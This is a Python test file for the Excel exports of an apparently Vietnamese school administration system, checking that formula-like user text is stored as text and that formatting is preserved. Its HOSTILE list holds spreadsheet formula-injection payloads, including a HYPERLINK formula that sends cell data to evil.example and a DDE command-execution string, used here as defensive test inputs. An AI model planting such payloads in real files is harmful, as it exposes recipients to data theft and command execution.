"""The Excel writer: write-only (rows streamed from an iterator, the office's look kept) and user text
that looks like a formula is always written as text, in every export."""

import io
import zipfile

import openpyxl

from plans.emulation.excel import registration_workbook
from reporting.consolidated_list import ConsolidatedRow, Office, consolidated_list_xlsx
from reporting.dossier_documents import LIST_HEADER
from reporting.spreadsheets import FORMULA_PREFIXES, official_list_xlsx

# Each way user text can smuggle a formula or a DDE call into a spreadsheet.
HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Bấm")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
]


def formula_cells(content: bytes) -> list[str]:
    """Every cell of every sheet stored as a formula, from the file's XML and as openpyxl reads it."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        raw = [n for n in archive.namelist() if n.startswith("xl/worksheets/") and b"<f>" in archive.read(n)]
    workbook = openpyxl.load_workbook(io.BytesIO(content))
    read = [
        c.coordinate for s in workbook.worksheets for row in s.iter_rows() for c in row if c.data_type == "f"
    ]
    return raw + read


def all_values(content: bytes) -> list:
    workbook = openpyxl.load_workbook(io.BytesIO(content))
    return [c.value for s in workbook.worksheets for row in s.iter_rows() for c in row]


def test_the_official_list_keeps_formula_like_text_as_text():
    rows = [[str(n), text, text, text, text, text] for n, text in enumerate(HOSTILE, start=1)]
    content = official_list_xlsx(heading=HOSTILE[:2], header=LIST_HEADER, rows=rows, widths=[6] * 6)
    assert formula_cells(content) == []
    values = all_values(content)
    for text in HOSTILE:
        assert text in values, text


def test_the_consolidated_list_keeps_formula_like_names_as_text():
    office = Office(
        name="=Phòng GD&ĐT", parent_name="UBND", abbreviation="PGDĐT", place="Hà Đông", head_name="-A"
    )
    rows = [ConsolidatedRow(text, text, text, "Lao động tiên tiến", text) for text in HOSTILE]
    content = consolidated_list_xlsx(office=office, school_year="2025-2026", rows=rows)
    assert formula_cells(content) == []
    assert set(HOSTILE) <= set(all_values(content))


def test_the_schools_registration_list_keeps_formula_like_names_as_text():
    payload = {
        "school_year": "2025-2026",
        "collective": None,
        "rows": [
            {
                "stt": n,
                "full_name": text,
                "position": text,
                "department": text,
                "title_label": text,
                "form_labels": [text],
                "teaches": True,
            }
            for n, text in enumerate(HOSTILE, start=1)
        ],
    }
    content = registration_workbook(payload=payload, school_name="=Trường A", parent_body="@UBND")
    assert formula_cells(content) == []
    assert set(HOSTILE) <= set(all_values(content))


def test_rows_come_from_an_iterator_and_the_look_is_kept():
    consumed = []

    def rows():
        for n in range(1, 2001):
            consumed.append(n)
            yield [str(n), f"Nguyễn Văn {n}", "Giáo viên", "Tổ 1", "Lao động tiên tiến", ""]

    content = official_list_xlsx(
        heading=["DANH SÁCH", "Năm học 2025-2026"],
        header=LIST_HEADER,
        rows=rows(),
        widths=[6, 26, 18, 30, 28, 48],
    )
    assert len(consumed) == 2000
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    assert sheet.title == "Danh sách"
    assert "A1:F1" in {str(r) for r in sheet.merged_cells.ranges}
    assert sheet.freeze_panes == "A5"
    assert sheet.print_title_rows == "$4:$4"
    assert sheet.page_setup.orientation == "landscape"
    assert sheet.column_dimensions["B"].width == 26 and sheet.column_dimensions["F"].width == 48
    assert sheet["A1"].font.bold and sheet["A1"].font.size == 13 and sheet["A2"].font.size == 12
    assert sheet["A4"].font.bold and sheet["A4"].border.left.style == "thin"
    assert sheet["B2004"].value == "Nguyễn Văn 2000"
    assert sheet["F2004"].border.left.style == "thin"  # an empty cell keeps the table's border
    assert all(prefix in "=+-@\t\r" for prefix in FORMULA_PREFIXES)
